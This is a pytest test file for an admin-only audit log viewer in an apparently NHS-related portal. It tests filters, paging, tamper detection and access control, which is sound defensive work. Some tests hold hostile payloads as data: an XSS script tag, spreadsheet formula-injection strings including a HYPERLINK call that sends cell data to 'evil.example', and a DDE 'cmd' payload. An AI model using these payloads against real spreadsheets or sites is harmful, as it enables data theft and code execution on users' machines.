"""The audit log viewer (admins only): filters, keyset paging, the CSV export and the chain's status.

SECURITY L5 (a deliberate tamper is shown with the exact first broken event), L3 (no NHS numbers: one typed as
a filter is refused), X7 (details are shown as text, never as markup), G4 (staff are refused every audit page).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from bs4 import BeautifulSoup
from flask.testing import FlaskClient
from sqlalchemy import select, text, update

from core.extensions import db
from core.models.audit import AuditCheck, AuditEvent
from core.services import audit_log
from core.services.audit import record_event
from core.services.db import transactional
from tests.accounts_support import make_patient, make_staff, post_form, signed_in_browser
from tests.release_support import released_request

AUDIT_ENDPOINTS = [
    ("GET", "/admin/audit"),
    ("GET", "/admin/audit.csv"),
    ("POST", "/admin/audit/check-chain"),
    ("GET", "/admin/audit/access-report"),
    ("GET", "/admin/audit/access-report.csv"),
]


@transactional
def append(count: int = 1, **kwargs) -> list[AuditEvent]:
    return [record_event(**kwargs) for _ in range(count)]


def all_seqs() -> list[int]:
    db.session.rollback()
    return list(db.session.execute(select(AuditEvent.seq).order_by(AuditEvent.seq.desc())).scalars())


def tamper(statement) -> None:
    """Change the trail behind the application's back (as tests/core/test_audit.py does): PostgreSQL's
    append-only trigger is switched off for the change, as only the table's owner could."""
    db.session.rollback()
    if db.engine.dialect.name == "postgresql":
        db.session.execute(text("ALTER TABLE audit_event DISABLE TRIGGER audit_event_append_only"))
        db.session.execute(statement)
        db.session.execute(text("ALTER TABLE audit_event ENABLE TRIGGER audit_event_append_only"))
    else:
        db.session.execute(statement)
    db.session.commit()


@pytest.fixture
def admin(app):
    return make_staff(email="audit.admin@practice.example", name="Ada Auditor", role="admin")


@pytest.fixture
def client(app, admin):
    return signed_in_browser(app, admin)


def soup_of(response) -> BeautifulSoup:
    return BeautifulSoup(response.get_data(as_text=True), "html.parser")


def shown(client, **params) -> list[int]:
    """The event numbers on the viewer's page for these filters."""
    response = client.get("/admin/audit", query_string=params)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return [int(row["data-seq"]) for row in soup_of(response).select("#audit-events tbody tr")]


def cells(row) -> list[str]:
    """A table row's cells as read on a wide screen (without the headings shown only on a narrow one)."""
    found = []
    for cell in row.select("td"):
        for heading in cell.select(".nhsuk-table-responsive__heading"):
            heading.extract()
        found.append(cell.get_text(" ", strip=True))
    return found


def rows_of(response) -> list[list[str]]:
    return [cells(row) for row in soup_of(response).select("#audit-events tbody tr")]


def error_messages(response) -> list[str]:
    return [item.get_text(" ", strip=True) for item in soup_of(response).select(".nhsuk-error-summary__list li")]


# --- Filters -------------------------------------------------------------------------------------------------


def test_each_filter_narrows_the_events_to_those_that_match(app, client, admin):
    clerk = make_staff(email="clerk@practice.example", name="Sam Clerk").account
    patient = make_patient().account
    by_clerk = append(2, action="test_alpha", actor_type="staff", actor_id=clerk.public_id, object_id="thing-1")
    by_patient = append(action="test_beta", actor_type="patient", actor_id=patient.public_id, object_id="thing-2")
    by_system = append(action="test_alpha", object_id="thing-2")
    clerk_seqs = sorted((event.seq for event in by_clerk), reverse=True)

    assert shown(client, action="test_alpha") == [by_system[0].seq, *clerk_seqs]
    assert shown(client, actor=clerk.public_id) == clerk_seqs
    assert shown(client, actor="CLERK@practice.example") == clerk_seqs  # an email, any case
    assert shown(client, actor="sam cl") == clerk_seqs  # part of a name
    assert shown(client, actor=patient.public_id) == [by_patient[0].seq]
    assert shown(client, object="thing-2") == [by_system[0].seq, by_patient[0].seq]
    assert shown(client, **{"actor-type": "patient", "action": "test_beta"}) == [by_patient[0].seq]
    assert shown(client, action="test_alpha", object="thing-2") == [by_system[0].seq]
    assert shown(client, action="no_such_action") == []


def test_a_request_reference_finds_the_request_and_its_recordings_and_download_links(
    app, client, tmp_path, monkeypatch
):
    _patient, req, release, _token = released_request(app, tmp_path, monkeypatch=monkeypatch)
    other_patient = make_patient(email="other@example.org", nhs_number="9000000009", verified=True)
    _other, other_req, _other_release, _ = released_request(app, tmp_path, patient=other_patient)

    rows = rows_of(client.get("/admin/audit", query_string={"object": req.reference.lower()}))
    actions = {row[2].split()[0] for row in rows}
    objects = {row[3] for row in rows}

    assert {"request_submitted", "recording_attached", "release_prepared", "release_approved"} <= actions
    assert any(release.public_id in value for value in objects)
    assert not any(other_req.reference in value for value in objects)


def test_the_date_range_uses_the_practices_days_in_summer_time(app, client):
    """1 July 2027 in London runs from 23:00 UTC on 30 June to 22:59:59 UTC on 1 July (BST)."""
    made = {}
    for label, moment in [
        ("june", datetime(2027, 6, 30, 22, 59, tzinfo=UTC)),
        ("july-first", datetime(2027, 6, 30, 23, 0, tzinfo=UTC)),
        ("july-last", datetime(2027, 7, 1, 22, 59, tzinfo=UTC)),
        ("july-2", datetime(2027, 7, 1, 23, 0, tzinfo=UTC)),
    ]:
        with time_machine.travel(moment, tick=False):
            made[label] = append(action="test_dated")[0].seq
    one_day = {
        "from-day": "1",
        "from-month": "7",
        "from-year": "2027",
        "to-day": "1",
        "to-month": "7",
        "to-year": "2027",
    }

    assert shown(client, action="test_dated", **one_day) == [made["july-last"], made["july-first"]]
    assert shown(client, action="test_dated", **{"from": "2027-07-01"}) == [
        made["july-2"],
        made["july-last"],
        made["july-first"],
    ]
    assert shown(client, action="test_dated", **{"to": "2027-06-30"}) == [made["june"]]
    assert shown(client, **{"from": "2031-01-01"}) == []


def test_an_event_stamped_outside_the_period_is_never_shown_even_if_a_clock_went_backwards(app, client):
    """The period is walked by sequence number, but the times decide: an event written earlier with a later
    time (a server clock that was wrong for a while) stays out of a period it does not belong to."""
    stamped = {}
    for label, moment in [
        ("5 July", datetime(2027, 7, 5, 12, 0, tzinfo=UTC)),
        ("1 July", datetime(2027, 7, 1, 12, 0, tzinfo=UTC)),  # written after the 5 July one
        ("3 July", datetime(2027, 7, 3, 12, 0, tzinfo=UTC)),
    ]:
        with time_machine.travel(moment, tick=False):
            stamped[label] = append(action="test_clock")[0].seq
    assert shown(client, action="test_clock", **{"to": "2027-07-04"}) == [stamped["3 July"], stamped["1 July"]]
    assert shown(client, action="test_clock", **{"from": "2027-07-04"}) == [stamped["5 July"]]
    assert shown(client, action="test_clock", **{"from": "2027-07-05", "to": "2027-07-05"}) == [stamped["5 July"]]


# --- Keyset paging ---------------------------------------------------------------------------------------------


def link(page: BeautifulSoup, rel: str) -> str | None:
    found = page.select_one(f"nav.nhsuk-pagination a[rel={rel}]")
    return found["href"] if found else None


def test_paging_walks_every_event_once_even_while_new_events_are_written(app, client):
    append(130, action="test_paged")
    expected = all_seqs()
    response = client.get("/admin/audit")
    seen: list[int] = []
    pages = 0
    while True:
        page = soup_of(response)
        rows = [int(row["data-seq"]) for row in page.select("#audit-events tbody tr")]
        assert len(rows) <= audit_log.PAGE_SIZE
        seen.extend(rows)
        pages += 1
        if pages == 1:
            append(7, action="test_written_meanwhile")  # must not shift or repeat the older pages
        older = link(page, "next")
        if older is None:
            break
        assert "before=" in older and "page=" not in older
        response = client.get(older)
    assert pages == 3
    assert seen == expected  # newest first, no gaps, no duplicates, nothing written after the walk began

    # Back towards the newest from the last page: the "Newer events" links now reach the new events too.
    back: list[int] = []
    while True:
        page = soup_of(response)
        back = [int(row["data-seq"]) for row in page.select("#audit-events tbody tr")] + back
        newer = link(page, "prev")
        if newer is None:
            break
        assert "after=" in newer
        response = client.get(newer)
    assert back == all_seqs()
    assert len(back) == len(expected) + 7


def test_paging_keeps_the_filters_in_its_links(app, client):
    append(60, action="test_filtered", object_id="kept")
    append(60, action="test_other")
    first = soup_of(client.get("/admin/audit", query_string={"action": "test_filtered"}))
    older = link(first, "next")
    assert "action=test_filtered" in older
    rows = rows_of(client.get(older))
    assert len(rows) == 10
    assert {row[2] for row in rows} == {"test_filtered Success"}


# --- Bad filter values ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"from-day": "31", "from-month": "2", "from-year": "2026"}, "The start date must be a real date"),
        ({"to-day": "1", "to-month": "13", "to-year": "2026"}, "The end date must be a real date"),
        ({"from-day": "1", "from-year": "2026"}, "The start date must include a month"),
        ({"from": "2026-02-30"}, "The start date must be a real date"),
        ({"to": "yesterday"}, "The end date must be a real date"),
        ({"to-day": "31", "to-month": "12", "to-year": "9999"}, "The end date must be before the year 3000"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "The end date must be the same as or after the start date"),
        ({"before": "-5"}, "This page link is not valid"),
        ({"before": "0"}, "This page link is not valid"),
        ({"before": "abc"}, "This page link is not valid"),
        ({"after": "1e3"}, "This page link is not valid"),
        ({"before": "9" * 19}, "This page link is not valid"),
        ({"after": "9" * 40}, "This page link is not valid"),
        ({"before": "5", "after": "3"}, "This page link is not valid"),
        ({"actor-type": "robot"}, "Select who did it from the list"),
        ({"action": "<script>"}, "Select an action from the list"),
        ({"object": "943 476 5919"}, "Audit events never hold NHS numbers"),
        ({"object": "9434765919"}, "Audit events never hold NHS numbers"),
        ({"actor": "943-476-5919"}, "Audit events never hold NHS numbers"),
        ({"actor": "nobody@practice.example"}, "No member of staff has this email address"),
        ({"actor": "Nobody Atall"}, "No member of staff has a name like this"),
        ({"object": "x" * 129}, "Enter no more than 128 characters"),
    ],
)
def test_a_bad_filter_is_a_400_with_a_message_never_a_500(app, client, params, message):
    for path in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(path, query_string=params)
        assert response.status_code == 400, (path, response.status_code)
        assert response.mimetype == "text/html"
        page = soup_of(response)
        assert page.title.get_text().startswith("Error: ")
        assert any(message in text for text in [*error_messages(response), page.get_text(" ")]), error_messages(
            response
        )
    assert not db.session.execute(select(AuditEvent).where(AuditEvent.action == "audit_exported")).first()


def test_a_public_id_that_happens_to_hold_ten_digits_is_not_mistaken_for_an_nhs_number(app, client):
    object_id = "a1234567890b" + "c" * 20
    event = append(action="test_digits", object_id=object_id)[0]
    assert shown(client, object=object_id) == [event.seq]


# --- What a row shows ----------------------------------------------------------------------------------------


def test_details_are_shown_as_text_never_as_markup(app, client):
    """X7: an event whose details hold a script tag shows the tag as text."""
    append(action="test_hostile", object_id="<b>bold</b>", details={"note": "<script>alert(1)</script>"})
    response = client.get("/admin/audit", query_string={"action": "test_hostile"})
    body = response.get_data(as_text=True)
    assert "<script>alert(1)</script>" not in body
    assert "<b>bold</b>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert soup_of(response).select("#audit-events script") == []
    assert '{"note": "<script>alert(1)</script>"}' in rows_of(response)[0][4]


def test_staff_are_named_and_patients_shown_by_public_id_only(app, client, admin):
    patient = make_patient(given_name="Grace", family_name="Hopper").account
    append(action="test_named", actor_type="patient", actor_id=patient.public_id)
    append(action="test_named", actor_type="staff", actor_id=admin.account.public_id)
    rows = rows_of(client.get("/admin/audit", query_string={"action": "test_named"}))
    staff_cell, patient_cell = (row[1] for row in rows)
    assert "Ada Auditor" in staff_cell
    assert patient.public_id in patient_cell
    assert "Grace" not in patient_cell and "Hopper" not in patient_cell


# --- CSV ------------------------------------------------------------------------------------------------------


def get_streamed(client: FlaskClient, path: str, **params):
    """GET `path`; the client reads a streamed body in the request's own context (tests/conftest.py).
    Returns (response, whether it was streamed)."""
    response = client.get(path, query_string=params)
    return response, response.was_streamed


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def csv_rows(client: FlaskClient, **params) -> list[list[str]]:
    response, _ = get_streamed(client, "/admin/audit.csv", **params)
    assert response.status_code == 200
    return read_csv(response)


def test_the_csv_is_streamed_with_a_header_and_only_the_filtered_events(app, client, admin):
    events = append(3, action="test_exported", object_id="CR-2026-00042")
    append(2, action="test_not_exported")
    response, streamed = get_streamed(client, "/admin/audit.csv", action="test_exported", before="2")

    assert response.status_code == 200
    assert streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    assert "no-store" in response.headers["Cache-Control"]
    rows = read_csv(response)
    assert rows[0] == audit_log.CSV_HEADER
    assert [int(row[0]) for row in rows[1:]] == [event.seq for event in reversed(events)]  # `before` is ignored
    assert {row[6] for row in rows[1:]} == {"test_exported"}
    assert rows[1][1].endswith("Z")

    exported = db.session.execute(select(AuditEvent).where(AuditEvent.action == "audit_exported")).scalar_one()
    assert (exported.actor_type, exported.actor_id) == ("staff", admin.account.public_id)
    assert json.loads(exported.details) == {"report": "audit_log", "action": "test_exported"}


def test_the_csv_is_read_in_keyset_batches_that_neither_repeat_nor_skip(app, client, monkeypatch):
    monkeypatch.setattr(audit_log, "CSV_BATCH", 4)
    made = append(11, action="test_batched")
    batches = list(audit_log.event_batches(audit_log.AuditFilter(action="test_batched")))
    assert [len(batch) for batch in batches] == [4, 4, 3]
    assert [row.seq for batch in batches for row in batch] == [event.seq for event in reversed(made)]
    rows = csv_rows(client, action="test_batched")
    assert [int(row[0]) for row in rows[1:]] == [event.seq for event in reversed(made)]


# OWASP CSV Injection: =, +, -, @, tab, carriage return and line feed; ASVS 5.0 1.2.10 adds NUL; ";" opens a
# new cell where the spreadsheet's separator is a semicolon; and the full-width forms some spreadsheets accept.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[repr(start) for start in FORMULA_STARTS])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(app, client, start):
    """Issue 11: on main a cell starting with ";" or a line feed (among others) went out unescaped."""
    payload = f'{start}HYPERLINK("https://evil.example/?x="&A1)'
    assert next(csv.reader(io.StringIO(audit_log.csv_rows([[payload]]))))[0] == "'" + payload
    assert audit_log.csv_rows([["CR-2026-00001", None]]) == '"CR-2026-00001",""\r\n'
    if start == "\0":
        return  # PostgreSQL cannot store a NUL in text, so none can reach the export from the audit trail
    append(action="test_formula", object_id=payload)
    rows = csv_rows(client, action="test_formula")
    assert rows[1][8] == "'" + payload


def test_every_csv_cell_is_quoted_so_a_separator_inside_a_value_cannot_start_a_new_cell(app, client):
    """OWASP: a field separator (',' or ';') or a quote inside a value must not let a formula start a cell."""
    payload = 'Mozilla;=cmd|"/c calc"!A1,=1+1'
    append(action="test_separator", object_id=payload)
    response, _ = get_streamed(client, "/admin/audit.csv", action="test_separator")
    body = response.get_data().decode("utf-8-sig")
    header, line = body.splitlines()[:2]
    assert header.startswith('"seq","')
    assert '"Mozilla;=cmd|""/c calc""!A1,=1+1"' in line
    assert line.startswith('"') and line.endswith('"')
    assert read_csv(response)[1][8] == payload


# --- The chain's status -------------------------------------------------------------------------------------------


def chain_status(client) -> str:
    page = soup_of(client.get("/admin/audit"))
    heading = page.select_one("#chain-status")
    return " ".join(sibling.get_text(" ", strip=True) for sibling in heading.find_next_siblings(limit=1))


def test_the_chain_status_shows_each_check_and_the_exact_first_broken_event_after_a_tamper(app, client, admin):
    """L5: an admin checks the chain; after a row is changed behind the portal's back the page names the exact
    first broken event, and each check is stored and audited."""
    assert "has not been checked yet" in chain_status(client)

    response = post_form(client, "/admin/audit/check-chain", {}, form_page="/admin/audit")
    assert response.status_code == 302
    status = chain_status(client)
    assert "intact" in status and "by Ada Auditor" in status

    events = append(5, action="test_chain")
    target = events[2]
    tamper(update(AuditEvent).where(AuditEvent.id == target.id).values(details='{"changed":true}'))
    response = post_form(client, "/admin/audit/check-chain", {}, form_page="/admin/audit")
    assert response.status_code == 302
    status = chain_status(client)
    assert f"broken at event {target.seq:,}: its contents were changed after it was written" in status
    assert f"{target.seq - 1:,} events before it are intact" in status

    checks = db.session.execute(select(AuditCheck).order_by(AuditCheck.id)).scalars().all()
    assert [(check.ok, check.broken_seq, check.checked_by) for check in checks] == [
        (True, None, admin.account.public_id),
        (False, target.seq, admin.account.public_id),
    ]
    audited = db.session.execute(
        select(AuditEvent).where(AuditEvent.action == "audit_chain_checked").order_by(AuditEvent.seq)
    ).scalars()
    assert [(event.outcome, json.loads(event.details)["broken_seq"]) for event in audited] == [
        ("success", None),
        ("failure", target.seq),
    ]


def test_the_scheduled_command_stores_its_result_for_the_page(app, client):
    result = app.test_cli_runner().invoke(args=["audit", "verify"])
    assert result.exit_code == 0, result.output
    check = db.session.execute(select(AuditCheck)).scalar_one()
    assert (check.ok, check.checked_by) == (True, "system")
    assert "by the scheduled check" in chain_status(client)


def test_the_scheduled_command_stores_a_broken_result_and_still_fails(app, client):
    target = append(3, action="test_chain")[1]
    tamper(update(AuditEvent).where(AuditEvent.id == target.id).values(object_id="someone-else"))
    result = app.test_cli_runner().invoke(args=["audit", "verify"])
    assert result.exit_code == 1
    assert result.output.startswith(f"BROKEN at audit event {target.seq}:")
    db.session.rollback()
    check = db.session.execute(select(AuditCheck)).scalar_one()
    assert (check.ok, check.broken_seq, check.checked_by) == (False, target.seq, "system")
    assert f"broken at event {target.seq:,}" in chain_status(client)


def test_checking_the_chain_needs_a_recent_second_factor(app, admin):
    """E12: 16 minutes after signing in (still active), the check asks to confirm it is you and checks nothing."""
    with time_machine.travel(datetime.now(UTC), tick=False) as traveller:
        client = signed_in_browser(app, admin)
        traveller.shift(timedelta(minutes=10))
        assert client.get("/admin/audit").status_code == 200
        traveller.shift(timedelta(minutes=6))
        response = post_form(client, "/admin/audit/check-chain", {}, form_page="/admin/audit")
    assert response.status_code == 302
    assert response.headers["Location"] == "/admin/confirm-it-is-you?next=/admin/audit"
    assert db.session.execute(select(AuditCheck)).first() is None


# --- Who may see it -------------------------------------------------------------------------------------------


def test_members_of_staff_without_the_admin_role_get_403_on_every_audit_page(app):
    """G4: the audit trail is for admins (and the DPO); every audit endpoint refuses the `staff` role, and
    nothing is exported or checked."""
    clerk = make_staff(email="clerk@practice.example", name="Sam Clerk", role="staff")
    client = signed_in_browser(app, clerk)
    for method, path in AUDIT_ENDPOINTS:
        response = post_form(client, path, {}, form_page="/admin/") if method == "POST" else client.get(path)
        assert response.status_code == 403, (method, path)
    db.session.rollback()
    assert db.session.execute(select(AuditEvent).where(AuditEvent.action == "audit_exported")).first() is None
    assert db.session.execute(select(AuditCheck)).first() is None


def test_the_audit_pages_are_in_the_admin_navigation_only_for_admins(app, client):
    nav = soup_of(client.get("/admin/")).select(".nhsuk-header__navigation a")
    assert "/admin/audit" in [anchor.get("href") for anchor in nav]
    clerk = make_staff(email="clerk@practice.example", name="Sam Clerk", role="staff")
    nav = soup_of(signed_in_browser(app, clerk).get("/admin/")).select(".nhsuk-header__navigation a")
    assert "/admin/audit" not in [anchor.get("href") for anchor in nav]
